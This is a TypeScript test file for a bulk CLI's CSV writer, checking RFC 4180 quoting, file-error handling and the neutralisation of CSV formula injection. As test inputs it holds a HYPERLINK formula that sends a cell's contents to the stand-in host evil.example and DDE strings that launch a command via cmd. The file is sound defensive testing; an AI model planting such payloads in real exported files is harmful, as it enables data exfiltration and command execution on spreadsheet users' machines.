/**
 * The bulk CLI's CSV writer: a file it cannot write is a rejected promise with the file system's
 * error, which the CLI reports in one line with the attach command, never an unhandled stream
 * error (that crashed the CLI with a stack trace at the end of a job). A registry's error message
 * or an error field starting with =, +, -, @, TAB or CR was written as it came, and a spreadsheet
 * opening the file ran it as a formula (OWASP "CSV Injection"): such a cell is now quoted with a
 * single quote in front, and every other cell is written as before.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvRow, parseCsv, writeCsv, type CsvItem } from '../../../src/bulk/cli/csv.js';

let dir: string;
beforeAll(async () => void (dir = await mkdtemp(path.join(os.tmpdir(), 'rgw-cli-csv-'))));
afterAll(() => rm(dir, { recursive: true, force: true }));

const item: CsvItem = { position: 0, domainName: 'a.tld', registry: 'r', state: 'FAILED', attempts: 1, transaction: null, expiresAt: null, skipped: null, error: { code: 'X', message: 'no, "this"', upstreamCode: 2303, field: 'domains[0].currentExpiry' } };
async function* pages(): AsyncGenerator<CsvItem[]> {
  yield [item];
}

describe('writeCsv', () => {
  it('writes the header and a row per item, quoting as RFC 4180 says', async () => {
    const file = path.join(dir, 'ok.csv');
    expect(await writeCsv(file, pages())).toBe(1);
    expect((await readFile(file, 'utf8')).split('\n')[1]).toBe('0,a.tld,r,FAILED,1,,,,,X,"no, ""this""",2303,domains[0].currentExpiry');
  });

  it('rejects with the error of a file it cannot open', async () => {
    await expect(writeCsv(path.join(dir, 'missing', 'x.csv'), pages())).rejects.toMatchObject({ code: 'ENOENT' });
  });
});

describe('cells a spreadsheet would run as formulas (OWASP CSV Injection)', () => {
  const failed = (message: string, field: string | null = null): CsvItem => ({ ...item, error: { code: 'OBJECT_NOT_FOUND', message, upstreamCode: 2303, field } });

  it('a registry message starting with =, +, -, @, TAB or CR is written as text: a single quote in front, quoted', () => {
    expect(csvRow(failed('=HYPERLINK("http://evil.example/?"&A1,"details")'))).toBe(
      `0,a.tld,r,FAILED,1,,,,,OBJECT_NOT_FOUND,"'=HYPERLINK(""http://evil.example/?""&A1,""details"")",2303,`,
    );
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const message = `${start}cmd|' /C calc'!A0`;
      const cells = parseCsv(`${csvRow(failed(message))}\n`)[0]!.fields;
      expect(cells[10], JSON.stringify(start)).toBe(`'${message}`); // read back: the message as it came, behind one quote
      expect(csvRow(failed(message)).split(',')[10]!.startsWith(`"'${start}`), JSON.stringify(start)).toBe(true);
    }
  });

  it('so is an errorField starting so; the other cells are written as before', () => {
    expect(csvRow(failed('The domain with given ID (a.tld) doesn\'t exist.', '=1+2'))).toBe(`0,a.tld,r,FAILED,1,,,,,OBJECT_NOT_FOUND,The domain with given ID (a.tld) doesn't exist.,2303,"'=1+2"`);
    // A formula character elsewhere than first, and the usual quoting, are left as they were.
    expect(csvRow(failed('period 1-10 years; a=b @ registry', 'domains[0].period'))).toBe('0,a.tld,r,FAILED,1,,,,,OBJECT_NOT_FOUND,period 1-10 years; a=b @ registry,2303,domains[0].period');
    expect(csvRow({ ...item, state: 'SUCCEEDED', error: null, transaction: { resultCode: 1000, serverTransactionId: 'SRV-1' }, expiresAt: '2030-01-01T00:00:00.000Z' })).toBe('0,a.tld,r,SUCCEEDED,1,1000,SRV-1,2030-01-01T00:00:00.000Z,,,,,');
  });

  it('writeCsv writes the neutralised cell to the file', async () => {
    const file = path.join(dir, 'formula.csv');
    async function* one(): AsyncGenerator<CsvItem[]> {
      yield [failed('@SUM(1+1)*cmd|\' /C calc\'!A0')];
    }
    expect(await writeCsv(file, one())).toBe(1);
    expect((await readFile(file, 'utf8')).split('\n')[1]).toBe(`0,a.tld,r,FAILED,1,,,,,OBJECT_NOT_FOUND,"'@SUM(1+1)*cmd|' /C calc'!A0",2303,`);
  });
});
